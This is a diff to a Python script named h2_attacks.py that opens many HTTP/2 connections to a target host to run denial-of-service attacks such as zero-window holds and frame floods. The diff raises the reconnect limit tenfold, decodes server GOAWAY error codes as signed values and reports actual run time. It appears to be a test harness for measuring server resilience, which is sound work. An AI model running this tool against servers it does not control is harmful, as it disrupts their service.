@@ -21,9 +21,9 @@ Usage: h2_attacks.py ATTACK HOST PORT [--seconds S] [--conns N] [--path P]
                 each connection, held: the server may send no DATA
   --seconds S   how long (10)
   --conns N     connections at once (10; zero-window: 100); one the server
-                closes is replaced, up to 20 * N in all
+                closes is replaced, up to 200 * N in all
   --path P      the path requested (/index.html; zero-window /file100k.bin)
-Prints one line: ATTACK SECONDS CONNECTIONS CLOSED_BY_SERVER FRAMES MB_SENT
+Prints one line: ATTACK SECONDS_RUN CONNECTIONS CLOSED_BY_SERVER FRAMES MB_SENT
 GOAWAYS(codes) RST_STREAMS."""
 import ipaddress, selectors, socket, struct, sys, time
 
@@ -31,6 +31,7 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
 END_STREAM, END_HEADERS = 0x1, 0x4
 INITIAL_WINDOW_SIZE, MAX_FRAME = 0x4, 16384
+MAX_OPENED = 200   # connections opened in all, per connection at once
 ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
           6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
           11: "ENHANCE_YOUR_CALM"}
@@ -231,7 +232,10 @@ def main():
             if len(buf) < 9 + length:
                 break
             if buf[3] == GOAWAY and length >= 8:
-                code = ERRORS.get(int.from_bytes(buf[13:17], "big"), str(int.from_bytes(buf[13:17], "big")))
+                # (Apache's mod_http2 has sent nghttp2's own negative error
+                # numbers as codes: shown signed.)
+                code = int.from_bytes(buf[13:17], "big", signed=True)
+                code = ERRORS.get(code, str(code))
                 goaways[code] = goaways.get(code, 0) + 1
             elif buf[3] == RST_STREAM:
                 stats["rst"] += 1
@@ -240,7 +244,7 @@ def main():
             del buf[:9 + length]
 
     while time.monotonic() < deadline:
-        while len(conns) < want and stats["opened"] < 20 * want:
+        while len(conns) < want and stats["opened"] < MAX_OPENED * want:
             stats["opened"] += 1
             try:
                 s = socket.create_connection((host, port), timeout=2)
@@ -250,7 +254,7 @@ def main():
             c = Conn(s, kind(path))
             conns.add(c)
             sel.register(s, selectors.EVENT_WRITE | (selectors.EVENT_READ if c.attack.reads else 0), c)
-        if not conns and stats["opened"] >= 20 * want:
+        if not conns and stats["opened"] >= MAX_OPENED * want:
             break
         for key, mask in sel.select(timeout=0.1):
             c = key.data
@@ -280,8 +284,9 @@ def main():
                 close(c, True)
     for c in list(conns):
         close(c, False)
+    ran = seconds - max(0.0, deadline - time.monotonic())
     codes = ",".join(f"{k}:{v}" for k, v in sorted(goaways.items())) or "none"
-    print(name, f"{seconds:g}s", f"conns={stats['opened']}", f"closed_by_server={stats['closed']}",
+    print(name, f"{ran:.1f}s", f"conns={stats['opened']}", f"closed_by_server={stats['closed']}",
           f"frames={stats['frames']}", f"sent_MB={stats['bytes'] / 1e6:.1f}", f"goaway={codes}",
           f"rst_stream={stats['rst']}")
 
